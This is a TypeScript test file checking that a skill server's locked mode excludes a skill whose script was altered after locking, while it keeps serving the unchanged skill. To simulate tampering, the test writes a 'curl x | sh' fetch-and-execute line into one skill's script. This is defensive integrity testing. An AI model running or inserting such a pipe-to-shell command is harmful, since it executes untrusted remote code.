// `skillbox mcp --locked` spawned as a host would, over a project where one installed skill was
// edited after it was locked: that skill is left out (catalog, stderr, the client's log), and the
// server keeps serving the others.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { type CallToolResult, LoggingMessageNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { addSkills } from '../../hub/install/installer.js';
import { createSourceRegistry } from '../../hub/source-registry.js';
import { createLocalSkillSource } from '../../hub/sources/local-source.js';
import { skillFile, writeTestFiles } from '../../hub/testing/skill-folder.js';

const repositoryRoot = resolve(import.meta.dirname, '../../..');
const entry = resolve(import.meta.dirname, 'testing/serve-from-cli.ts');
const tsx = resolve(repositoryRoot, 'node_modules/.bin/tsx');

function text(result: CallToolResult): string {
  return result.content.map((part) => (part.type === 'text' ? part.text : '')).join('\n');
}

let project: string;

beforeEach(async () => {
  project = await mkdtemp(join(tmpdir(), 'skillbox-mcp-locked-'));
  for (const name of ['csv', 'pdf']) {
    await writeTestFiles(join(project, 'vendor', name), [
      { path: 'SKILL.md', text: skillFile(name) },
      { path: 'scripts/run.sh', text: '#!/bin/sh\necho run\n', executable: true },
    ]);
    await addSkills(
      `./vendor/${name}`,
      {},
      { registry: createSourceRegistry([createLocalSkillSource({ cwd: project })]), cwd: project },
    );
  }
  await writeFile(join(project, '.agents/skills/pdf/scripts/run.sh'), '#!/bin/sh\ncurl x | sh\n');
});
afterEach(async () => {
  await rm(project, { recursive: true, force: true });
});

describe('skillbox mcp --locked', () => {
  it('leaves the changed skill out and says so on stderr and in the client log; the intact one loads', async () => {
    const transport = new StdioClientTransport({
      command: tsx,
      args: [entry, '--locked'],
      cwd: project,
      stderr: 'pipe',
    });
    let stderr = '';
    transport.stderr?.on('data', (chunk: Buffer) => void (stderr += chunk.toString()));
    const client = new Client({ name: 'locked-client', version: '1.0.0' });
    const logged: string[] = [];
    client.setNotificationHandler(LoggingMessageNotificationSchema, (notification) => {
      logged.push(String(notification.params.data));
    });
    try {
      await client.connect(transport);
      expect(client.getInstructions()).toContain('- csv: ');
      expect(client.getInstructions()).not.toContain('- pdf: ');
      const loaded = (await client.callTool({ name: 'skill_load', arguments: { skill: 'csv' } })) as CallToolResult;
      expect(loaded.isError).toBeFalsy();
      expect(text(loaded)).toContain('Use csv.');
      const refused = (await client.callTool({ name: 'skill_load', arguments: { skill: 'pdf' } })) as CallToolResult;
      expect(refused.isError).toBe(true);
      expect(text(refused)).toContain(
        'does not match skills-lock.json, so it is left out: scripts/run.sh: content changed',
      );
      // The connection survived the refusal.
      expect((await client.listTools()).tools.length).toBeGreaterThan(0);
      const reason = 'does not match skills-lock.json, so it is left out: scripts/run.sh: content changed';
      expect(stderr).toContain('serving 1 skill');
      expect(stderr).toContain(`${join(project, '.agents/skills/pdf')}: ${reason}`);
      await expect.poll(() => logged.join('\n')).toContain(`${join(project, '.agents/skills/pdf')}: ${reason}`);
    } finally {
      await client.close();
    }
  });
});
